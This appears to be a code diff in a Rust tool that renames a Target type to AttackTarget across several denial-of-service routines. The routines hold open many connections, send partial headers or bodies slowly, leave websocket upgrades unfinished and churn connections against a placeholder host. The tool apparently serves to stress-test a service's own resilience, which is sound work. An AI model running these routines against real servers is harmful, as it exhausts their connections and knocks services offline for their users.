@@ -4,13 +4,13 @@ use anyhow::Result;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
-use super::{Target, pause};
+use super::{AttackTarget, pause};
 
 /// How many connections one attack holds.
 const MANY: usize = 100;
 
 /// Opens connections that send only this, and holds them. When the server closes one, another one is opened.
-async fn hold(target: &Target, text: &str) {
+async fn hold(target: &AttackTarget, text: &str) {
     let mut held: Vec<TcpStream> = Vec::new();
     while !target.is_over() {
         held.retain(is_open);
@@ -23,7 +23,7 @@ async fn hold(target: &Target, text: &str) {
     }
 }
 
-async fn open(target: &Target, text: &str) -> Result<TcpStream> {
+async fn open(target: &AttackTarget, text: &str) -> Result<TcpStream> {
     let mut stream = target.connect().await?;
     stream.write_all(text.as_bytes()).await?;
     Ok(stream)
@@ -37,32 +37,32 @@ fn is_open(stream: &TcpStream) -> bool {
     }
 }
 
-pub(super) async fn heads(target: Target) {
+pub(super) async fn heads(target: AttackTarget) {
     hold(&target, "GET / HTTP/1.1\r\nHost: cards.example\r\nX-Slow: ").await;
 }
 
-pub(super) async fn bodies(target: Target) {
+pub(super) async fn bodies(target: AttackTarget) {
     let head = "POST /api/guest HTTP/1.1\r\nHost: cards.example\r\nContent-Length: 8000\r\n\r\n{\"name\":";
     hold(&target, head).await;
 }
 
-pub(super) async fn upgrades(target: Target) {
+pub(super) async fn upgrades(target: AttackTarget) {
     let head =
         "GET /api/socket HTTP/1.1\r\nHost: cards.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n";
     hold(&target, head).await;
 }
 
-pub(super) async fn idle(target: Target) {
+pub(super) async fn idle(target: AttackTarget) {
     hold(&target, "").await;
 }
 
 /// Sends requests for files and never reads them.
-pub(super) async fn unread_files(target: Target) {
+pub(super) async fn unread_files(target: AttackTarget) {
     hold(&target, &"GET / HTTP/1.1\r\nHost: cards.example\r\n\r\n".repeat(20)).await;
 }
 
 /// Sends the head of a request byte by byte.
-pub(super) async fn slow_heads(target: Target) {
+pub(super) async fn slow_heads(target: AttackTarget) {
     let head = "GET / HTTP/1.1\r\nHost: cards.example\r\nX-Slow: ";
     let mut held: Vec<(TcpStream, usize)> = Vec::new();
     while !target.is_over() {
@@ -82,7 +82,7 @@ pub(super) async fn slow_heads(target: Target) {
 }
 
 /// Opens connections and closes them after one request.
-pub(super) async fn churn(target: Target) {
+pub(super) async fn churn(target: AttackTarget) {
     while !target.is_over() {
         let answered = async {
             let mut stream = open(&target, "GET /none HTTP/1.0\r\n\r\n").await?;
